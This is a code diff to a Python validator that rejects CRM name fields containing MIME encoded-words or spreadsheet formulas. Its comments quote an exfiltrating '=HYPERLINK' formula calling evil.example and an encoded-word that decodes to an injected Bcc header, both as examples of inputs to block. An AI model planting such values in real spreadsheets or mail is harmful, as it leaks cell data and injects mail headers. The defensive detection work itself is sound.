@@ -9,6 +9,7 @@ rare row holding a Latin-1 byte pair or a '?', and keeps their state.
 
 from __future__ import annotations
 
+import re
 from collections.abc import Callable, Mapping, Sequence
 
 from greeter.errors import Problem
@@ -26,6 +27,11 @@ Garbled = dict[str, list[tuple[int, str]]]
 #: A cell starting with one of these is what a spreadsheet runs as a formula (OWASP's list, as
 #: :func:`greeter.console.neutralised` has it): a name field's ``=HYPERLINK(…?x=…)`` is no lost letters.
 _FORMULA_START = "=+-@"
+
+#: An RFC 2047 encoded-word, ``=?charset?B|Q?text?=``: mail header syntax, which a name cell holds
+#: only when pasted from a raw header or planted (``=?utf-8?q?=0D=0ABcc:…?=`` decodes to a header
+#: line) — its '?'s are no lost letters, and its '=' no formula.
+_ENCODED_WORD = re.compile(r"=\?[^?\s]+\?[BbQq]\?[^?\s]*\?=")
 
 
 def garbled(
@@ -103,13 +109,20 @@ def lost_names(
     Such a row was loaded (``check: OK``) and greeted «???? ????????, с
     днём рождения!»: it is rejected, saying what lost the letters. Which
     '?' is a lost letter and which a question mark: :func:`lost_in`.
-    A name field starting as a formula (``=HYPERLINK("http://evil.example/?x="&A1,…)``)
+    A name field holding a MIME encoded-word (``=?utf-8?q?…?=``) lost nothing either: it is
+    rejected as header syntax. A name field starting as a formula (``=HYPERLINK("http://evil.example/?x="&A1,…)``)
     lost nothing: it is rejected as a formula, not sent to re-export as UTF-8.
     """
     problems = []
     for name in fields:
         value = cells[name]
-        if value and value[0] in _FORMULA_START and "?" in value:
+        if "=?" in value and _ENCODED_WORD.search(value) is not None:
+            message = (
+                f"{quoted(value)} contains a MIME encoded-word (=?…?=, mail header syntax), not a name;"
+                " the row is not loaded: put the name itself in the CRM's field"
+            )
+            problems.append(problem(line, name, message))
+        elif value and value[0] in _FORMULA_START and "?" in value:
             # =HYPERLINK("http://evil.example/?x="&A1,…) lost no letters: said as what it is.
             message = (
                 f"{quoted(value)} is a spreadsheet formula, not a name; the row is not loaded:"
